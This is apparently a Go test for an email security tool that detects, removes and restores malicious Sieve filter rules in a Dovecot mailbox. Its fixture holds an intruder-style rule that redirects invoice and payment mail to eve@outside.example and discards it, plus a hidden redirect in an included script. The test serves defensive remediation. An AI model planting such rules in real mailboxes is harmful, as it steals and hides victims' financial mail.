package app_test

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-sasl"

	"tocsin/internal/api"
	"tocsin/internal/app"
	"tocsin/internal/auth"
	"tocsin/internal/remediate/sieve"
	"tocsin/test/rig"
)

const (
	brokenScript = "require [\"fileinto\", \"copy\", \"include\"];\r\n# rule:[Newsletters]\r\nif header :contains \"list-id\" \"news\" { fileinto \"News\"; }\r\n\r\n" +
		"# rule:[.]\r\nif header :contains \"subject\" [\"invoice\", \"payment\"] {\r\n\tredirect \"eve@outside.example\";\r\n\tdiscard;\r\n}\r\ninclude :personal \"more\";\r\nkeep;\r\n"
	includedScript = "redirect \"eve@outside.example\";\r\n"
)

// TestFirstAidOnDovecot takes what an intruder left out of a real mailbox, in the active script and in one that it includes, and puts it back.
func TestFirstAidOnDovecot(t *testing.T) {
	t.Parallel()
	r := rig.Start(t, rig.Options{Mailboxes: map[string]string{"bob@harbour.test": "their own"}, Master: "soc", MasterPassword: "master's"})
	s := open(t, func(c *app.Config, _ *app.Options) {
		c.Mailboxes = []app.Mailboxes{{Name: "Dovecot", Address: r.IMAP, TLS: "none", User: "soc", Password: "master's", Sieve: r.Sieve, SieveTLS: "none", Timeout: 20 * time.Second}}
	})
	c, err := sieve.Dial(t.Context(), r.Sieve, nil, false, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	mechanism, message, _ := sasl.NewPlainClient("", "bob@harbour.test", "their own").Start()
	must(c.Authenticate(mechanism, message))
	must(c.Put("more", includedScript))
	must(c.Put("main", brokenScript))
	r.Doveadm("sieve", "activate", "-u", "bob@harbour.test", "main")
	reads := func(name string) string {
		t.Helper()
		text, err := c.Get(name)
		must(err)
		return text
	}
	purger := s.as(t, auth.SecurityOperator, auth.SearchAndPurge)
	look := func() api.MailboxRules { return ok[api.MailboxRules](purger.get(t, bob+"/rules")) }

	rules := look()
	if !rules.Shown || len(rules.Rules) != 6 || rules.Suspicious != 2 || rules.SignOut || !strings.Contains(rules.SignOutSay, "doveadm kick bob@harbour.test") {
		t.Fatalf("%+v", rules)
	}
	bad, included := rules.Rules[0], rules.Rules[1]
	if bad.Script != "main" || bad.Why != "forwards to eve@outside.example; deletes mail about invoice, payment" || included.Script != "more" || included.Why == "" || rules.Rules[2].Why != "" {
		t.Errorf("%+v", rules.Rules)
	}
	main, more := reads("main"), reads("more")
	one := ok[api.MailboxDeed](purger.post(t, bob+"/rules/remove", remove(bad, "ticket 9")))
	two := ok[api.MailboxDeed](purger.post(t, bob+"/rules/remove", remove(included, "ticket 9")))
	if one.State != "Done" || two.State != "Done" || strings.Contains(reads("main")+reads("more"), "eve@") || len(reads("main")) >= len(main) {
		t.Errorf("%+v %+v %q %q", one, two, reads("main"), reads("more"))
	}
	rules = look()
	if len(rules.Rules) != 4 || rules.Suspicious != 0 {
		t.Errorf("%+v", rules)
	}
	// The owner writes a rule of their own at the end; what was seen before is not what is there.
	must(c.Put("main", reads("main")+"stop;\r\n"))
	purger.post(t, bob+"/rules/remove", remove(rules.Rules[1], "ticket 9")).problem(http.StatusConflict)
	// Putting back keeps what the owner wrote, octet for octet.
	for _, d := range []api.MailboxDeed{one, two} {
		if back := ok[api.MailboxDeed](purger.post(t, bob+"/deeds/"+d.ID+"/put-back", api.AidReason{Reason: "it was wanted"})); back.State != "Done" {
			t.Errorf("%+v", back)
		}
	}
	if reads("main") != main+"stop;\r\n" || reads("more") != more {
		t.Errorf("%q %q", reads("main"), reads("more"))
	}
	purger.post(t, bob+"/sign-out", api.AidReason{Reason: "ticket 9"}).problem(http.StatusConflict)
	// Two more that nobody could put back: the script is another.
	d := ok[api.MailboxDeed](purger.post(t, bob+"/rules/remove", remove(look().Rules[0], "ticket 10")))
	must(c.Put("main", "keep;\r\n"))
	purger.post(t, bob+"/deeds/"+d.ID+"/put-back", api.AidReason{Reason: "x"}).problem(http.StatusConflict)
	if reads("main") != "keep;\r\n" {
		t.Errorf("%q", reads("main"))
	}
	if got := s.audited(t, auth.ActAidRemoved, auth.ActAidPutBack, auth.ActAidFailed); len(got) != 5 {
		t.Errorf("%+v", got)
	}
}
